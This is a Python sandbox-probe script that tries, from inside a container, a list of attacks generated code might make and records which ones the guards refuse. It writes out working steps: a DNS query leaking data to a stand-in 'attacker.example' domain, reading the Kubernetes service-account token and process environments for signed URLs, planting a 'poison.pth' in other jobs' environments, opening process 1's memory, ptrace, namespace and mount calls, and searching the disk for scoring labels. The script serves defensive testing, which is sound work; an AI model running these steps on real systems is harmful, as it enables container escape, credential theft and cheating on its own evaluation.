"""What generated code tries from inside, each by itself: standard library only.

`run(targets)` gives, by the attack's name, what it got; None where it was refused. The same program runs
where all guards are up and where one is taken away.
"""

import contextlib
import ctypes
import json
import mmap
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

SECONDS = 2.0
SYS_ADMIN_FLAG = 0x10000000  # CLONE_NEWUSER
NUMBERS = {"x86_64": (101, 272, 165), "aarch64": (117, 97, 40)}  # ptrace, unshare, mount


class Refused(Exception):  # noqa: N818
    """Nothing was got."""


def connected(target: str) -> str:
    """A connection to host:port, or to [host]:port."""
    host, _, port = target.rpartition(":")
    with socket.create_connection((host.strip("[]"), int(port)), SECONDS):
        return f"connected to {target}"


def any_of(targets: list[str]) -> str:
    """A connection to one of them."""
    for target in targets:
        with contextlib.suppress(OSError):
            return connected(target)
    raise Refused


def asked_dns(server: str) -> str:
    """An answer of a name server to a name that carries something out."""
    labels = [f"stolen-{os.getpid()}", "attacker", "example"]
    query = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    query += b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(SECONDS)
        sender.sendto(query, (server, 53))
        return f"{len(sender.recv(512))} bytes of an answer"


def read_urls(urls: list[str]) -> str:
    """What the store gives for one of the URLs."""
    for url in urls:
        with contextlib.suppress(OSError), urllib.request.urlopen(url, timeout=SECONDS) as answer:
            return str(answer.read(200))
    raise Refused


def wrote_urls(urls: list[str]) -> str:
    """Whether the store takes something at one of the URLs."""
    for url in urls:
        with contextlib.suppress(OSError):
            request = urllib.request.Request(url, data=b"poison", method="PUT")
            with urllib.request.urlopen(request, timeout=SECONDS) as answer:
                return f"written: {answer.status}"
    raise Refused


def posted(forms: list[dict[str, Any]]) -> str:
    """Whether the store takes a form whose key was chosen here."""
    for form in forms:
        lines = "".join(
            f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in form["fields"].items()
        )
        file = 'Content-Disposition: form-data; name="file"; filename="f"'
        body = f"{lines}--x\r\n{file}\r\n\r\npoison\r\n--x--\r\n"
        request = urllib.request.Request(
            form["url"], data=body.encode(), headers={"Content-Type": "multipart/form-data; boundary=x"}
        )
        with contextlib.suppress(OSError), urllib.request.urlopen(request, timeout=SECONDS) as answer:
            return f"written: {answer.status}"
    raise Refused


def token(_: object) -> str:
    """The token of a service account."""
    return Path("/var/run/secrets/kubernetes.io/serviceaccount/token").read_text()[:10]


def grants(_: object) -> str:
    """A granted URL: in files, or in what any process was started with."""
    patterns = ("proc/[0-9]*/environ", "grants/*", "shipping/*", "spool/*")
    for place in [path for pattern in patterns for path in Path("/").glob(pattern)]:
        with contextlib.suppress(OSError):
            if b"X-Amz-Signature" in place.read_bytes():
                return f"a grant in {place}"
    raise Refused


def sockets(paths: list[str]) -> str:
    """A connection to a socket that was not meant for it."""
    for path in paths:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect(path)
            return f"connected to {path}"
    raise Refused


def environments(_: object) -> str:
    """Something written where other jobs' environments lie, or into this one's."""
    for place in ("/environments", "/environment", *Path("/").glob("environments/*/lib")):
        with contextlib.suppress(OSError):
            (Path(place) / "poison.pth").write_text("import os")
            return f"wrote {place}/poison.pth"
    raise Refused


def written(paths: list[str]) -> str:
    """A file written outside of what is its own."""
    for path in paths:
        with contextlib.suppress(OSError):
            Path(path).write_text("poison")
            return f"wrote {path}"
    raise Refused


def supervisor(_: object) -> str:
    """The memory or the variables of process 1."""
    for name in ("environ", "mem", "maps"):
        with contextlib.suppress(OSError), open(f"/proc/1/{name}", "rb") as opened:  # noqa: PTH123
            if name == "mem" or opened.read(1):
                return f"opened /proc/1/{name}"
    raise Refused


def root(_: object) -> str:
    """User 0, with a capability."""
    os.setuid(0)
    effective = status()["CapEff"]
    if os.geteuid() == 0 and int(effective, 16) != 0:
        return f"user 0 with capabilities {effective}"
    raise Refused


def setuid_program(_: object) -> str:
    """A program whose file says that it is run as user 0."""
    for program in ("/usr/bin/su", "/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp", "/usr/bin/chsh"):
        if not Path(program).exists():
            continue
        child = subprocess.Popen(
            [program], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        try:
            for _ in range(50):
                with contextlib.suppress(OSError, KeyError):
                    if status(child.pid)["Uid"].split()[1] == "0":
                        return f"{program} runs as user 0"
                if child.poll() is not None:
                    break
                time.sleep(0.01)
        finally:
            with contextlib.suppress(OSError):
                child.kill()
            child.wait()
    raise Refused


def called(index: int, *arguments: Any) -> str:
    """A system call that is not for it."""
    number = NUMBERS[os.uname().machine][index]
    libc = ctypes.CDLL(None, use_errno=True)
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    if libc.syscall(number, *words) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return f"system call {number} was done"


def ptrace(_: object) -> str:
    """Another process, traced."""
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)"])
    try:
        time.sleep(0.2)
        return called(0, 16, child.pid, 0, 0)
    finally:
        child.kill()
        child.wait()


def in_child(what: Callable[[], str]) -> str:
    """Done in a child, which the rest does not have to live with."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        with contextlib.suppress(BaseException):
            os.write(writing, what().encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as said:
        text = said.read().decode()
    os.waitpid(child, 0)
    if not text:
        raise Refused
    return text


def namespaces(_: object) -> str:
    """A user namespace of its own, in which it would be root."""
    return in_child(lambda: called(1, SYS_ADMIN_FLAG))


def mounted(_: object) -> str:
    """A file system over /tmp, in a mount namespace of a child."""

    def mount() -> str:
        called(1, 0x20000)
        called(2, b"none", b"/", None, 0x4000 | 0x40000, None)
        return called(2, b"none", b"/tmp", b"tmpfs", 0, None)

    return in_child(mount)


def device(_: object) -> str:
    """A device of the machine, made and opened."""
    path = f"/tmp/device-{os.getpid()}"
    os.mknod(path, 0o20600, os.makedev(1, 1))
    try:
        return f"made {path}"
    finally:
        os.unlink(path)  # noqa: PTH108


def kernel_settings(_: object) -> str:
    """A setting of the machine's kernel, opened to be written. Nothing is written."""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            return f"opened {path}"
    raise Refused


def raw_socket(_: object) -> str:
    """Packets of its own making."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return "made a raw socket"


def made_process(_: object) -> str:
    """A process or a program."""
    child = os.fork()
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "forked"


def own_server(port: int) -> str:
    """A port of its own, on which it could be asked from outside."""
    with socket.create_server(("0.0.0.0", port)):
        return f"listens on {port}"


def found(sign: str) -> str:
    """A file with this in it, anywhere that can be read."""
    for top, folders, names in os.walk("/"):
        if top == "/":
            # What the image and the packages have of themselves is large, and no secret.
            known = ("proc", "sys", "usr", "lib", "opt", "environment")
            folders[:] = [name for name in folders if name not in known]
        for name in names:
            with contextlib.suppress(OSError):
                path = Path(top) / name
                # The program that looks has it too.
                if name == Path(sys.argv[1]).name or not path.is_file() or path.stat().st_size >= 1 << 20:
                    continue
                if sign.encode() in path.read_bytes():
                    return f"found in {path}"
    raise Refused


def took_memory(size: int) -> str:
    """So much memory of its own, of which none is written to."""
    with mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS):
        return f"{size} bytes"


ATTEMPTS: dict[str, Callable[[Any], str]] = {
    "labels of rows that it is scored on": found,
    "another job's workspace, to be read": read_urls,
    "another job's workspace, to be written": wrote_urls,
    "memory beyond its share": took_memory,
    "metadata address": any_of,
    "API server by its Service": connected,
    "API server by its address": connected,
    "another pod by its address": connected,
    "a Service by its address": connected,
    "a Service by its name": connected,
    "DNS as a channel": asked_dns,
    "store with guessed keys": read_urls,
    "store without keys": read_urls,
    "a URL after its expiry": read_urls,
    "a URL beyond its key": wrote_urls,
    "a form beyond its prefix": posted,
    "token of the service account": token,
    "grants of the courier": grants,
    "the courier's or the front's socket": sockets,
    "environments of other jobs": environments,
    "files of the image and of others": written,
    "memory of the supervisor": supervisor,
    "user 0": root,
    "a setuid program": setuid_program,
    "ptrace of another process": ptrace,
    "a user namespace": namespaces,
    "a mount": mounted,
    "a device": device,
    "settings of the kernel": kernel_settings,
    "a raw socket": raw_socket,
    "a process of its own": made_process,
    "a server of its own": own_server,
}


def status(process: int | str = "self") -> dict[str, str]:
    """/proc/PID/status."""
    lines = Path(f"/proc/{process}/status").read_text().splitlines()
    return {name: value.strip() for name, _, value in (line.partition(":") for line in lines)}


def run(targets: dict[str, Any]) -> dict[str, str | None]:
    """All that there is a target for, some at once: a packet that is dropped takes its seconds."""

    def attempt(name: str) -> str | None:
        try:
            return ATTEMPTS[name](targets[name])
        except (Exception, SystemExit):
            return None

    # What changes the process itself, or has it ended by the front, comes last, one after the other.
    last = [name for name in targets if name in ("user 0", "the courier's or the front's socket")]
    first = [name for name in targets if name not in last]
    with contextlib.suppress(ValueError):
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    try:
        with ThreadPoolExecutor(16) as pool:
            report = dict(zip(first, pool.map(attempt, first), strict=True))
    except RuntimeError:
        report = {name: attempt(name) for name in first}
    return {**report, **{name: attempt(name) for name in last}}


if __name__ == "__main__":
    told = run(json.loads(Path(sys.argv[1]).read_text()))
    Path(sys.argv[2]).write_text(json.dumps(told))
